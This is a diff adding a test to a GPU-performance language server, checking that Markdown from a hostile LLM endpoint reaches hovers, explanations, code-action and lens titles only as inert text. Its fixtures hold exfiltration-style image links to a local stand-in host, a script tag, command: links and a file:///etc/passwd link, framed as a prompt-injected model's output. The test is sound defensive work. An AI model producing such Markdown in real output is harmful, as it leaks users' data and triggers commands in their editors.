@@ -362,3 +362,97 @@ def answer_text() -> str:
     from tests.server.llm_server import answer
 
     return answer("bandwidth")
+
+
+# a prompt-injected model's Markdown: a remote image that would carry what it read, raw HTML,
+# command: and file: links, a reference-style image, a link hidden behind an escaped backtick
+HOSTILE_MARKDOWN = (
+    "**Bandwidth-bound.** ![](http://127.0.0.1:9/exfil?q=secret) <img src=\"http://127.0.0.1:9/i.png\">\n"
+    "Run [this](command:workbench.action.terminal.new) or open [that](file:///etc/passwd); "
+    "<a href=\"command:x\">here</a> <script>alert(1)</script> \\`![i](http://127.0.0.1:9/b.png)`\n\n"
+    "![alt][ref]\n\n[ref]: http://127.0.0.1:9/ref.png\n\n- item\n  ```cuda\n  y[i] = a<b;\n  ```\n- <img src=x>\n")
+HOSTILE_MODEL = "m ![l](http://127.0.0.1:9/label.png) [c](command:x)"
+
+
+def assert_inert(markdown: str) -> None:
+    """Rendered as an editor's Markdown preview renders it (CommonMark, raw HTML on, every link
+    scheme allowed): no element that embeds, links or runs anything."""
+    import re
+
+    from markdown_it import MarkdownIt
+
+    render = MarkdownIt("commonmark", {"html": True})
+    render.validateLink = lambda url: True
+    html = render.render(markdown)
+    tags = {t.lower() for t in re.findall(r"</?([A-Za-z][A-Za-z0-9-]*)", html)}
+    assert tags <= {"p", "em", "strong", "code", "pre", "ul", "ol", "li", "blockquote", "h1", "h2", "h3", "h4",
+                    "hr", "br", "table", "thead", "tbody", "tr", "th", "td"}, (tags, html)
+    assert not re.search(r"<[A-Za-z][^>]*\s(?:src|href)\s*=", html), html
+
+
+def assert_plain(text: str) -> None:
+    """A plain-text surface (a title, a message): nothing a client could turn into a link."""
+    assert "](" not in text and "\n" not in text, text
+
+
+async def test_model_markdown_reaches_every_surface_inert(tmp_path):
+    """Issue 28: a hostile endpoint's Markdown reaches the hover, the explanation (its result and
+    each streamed part), code-action and lens titles and messages only as inert text."""
+    from tests.llm.llm_fakes import Wire
+    from tests.server.llm_server import answer
+
+    wire = Wire("openai")
+    factor = {"text": "loads ![f](http://127.0.0.1:9/f.png) [x](command:y)", "line": 3}
+
+    def hostile(record) -> Reply:
+        task = task_of(record)
+        if task == "explain":
+            return wire.reply(HOSTILE_MARKDOWN, tool=False)
+        data = json.loads(answer("compute", block_size=128 if task == "launch_params" else None))
+        data.update(rationale=HOSTILE_MARKDOWN, factors=[factor])
+        data["proposals"]["code_changes"] = ["![c](http://127.0.0.1:9/c.png) <img src=y>"]
+        return wire.reply(json.dumps(data))
+
+    path = write_workspace(tmp_path / "ws")
+    uri = path.as_uri()
+    with endpoint(hold=hostile) as llm:
+        init = {"settings": {"llm": {**llm_settings(llm.url), "model": HOSTILE_MODEL}}}
+        async with session(path.parent, init_options=init, env=env_for(tmp_path)) as s:
+            streamed: list[str] = []
+
+            @s.client.feature("perflsp/explanation")
+            def on_explanation(params: Any) -> None:
+                streamed.append(params.markdown)
+
+            await s.open(path)
+            await s.diagnostics_matching(uri, all_from("llm"))
+            text = path.read_text()
+            shown = await hover(s, uri, text, "k1(const")
+            assert "Bandwidth-bound." in shown and "/exfil" in shown  # (shown, as text)
+            assert_inert(shown)
+
+            explained = await s.command("perflsp.explainKernel", {"uri": uri, "kernel": "k1", "streamId": "e1"})
+            assert explained["source"] == "llm" and "exfil" in explained["markdown"]
+            assert_inert(explained["markdown"])
+            assert streamed and all(assert_inert(part) is None for part in streamed)
+
+            asked = await s.command("perflsp.askLaunchParameters", {"uri": uri, "kernel": "k2"})
+            assert asked["source"] == "llm" and asked["actions"]
+            index = text.index("k2(const")
+            pos = lsp.Position(text[:index].count("\n"), index - (text.rfind("\n", 0, index) + 1))
+            actions = await s.client.text_document_code_action_async(lsp.CodeActionParams(
+                text_document=lsp.TextDocumentIdentifier(uri=uri), range=lsp.Range(pos, pos),
+                context=lsp.CodeActionContext(diagnostics=[])))
+            titles = [a.title for a in actions or []]
+            assert any("proposed by LLM: m" in t for t in titles), titles
+            for title in titles:
+                assert_plain(title)
+            lenses = await s.client.text_document_code_lens_async(lsp.CodeLensParams(
+                text_document=lsp.TextDocumentIdentifier(uri=uri)))
+            lens_titles = [lens.command.title for lens in lenses or [] if lens.command is not None]
+            assert any(t.startswith("Explain (LLM: m") for t in lens_titles), lens_titles
+            for title in lens_titles:
+                assert_plain(title)
+            assert s.client.messages
+            for shown_message in s.client.messages:
+                assert_plain(shown_message.message)
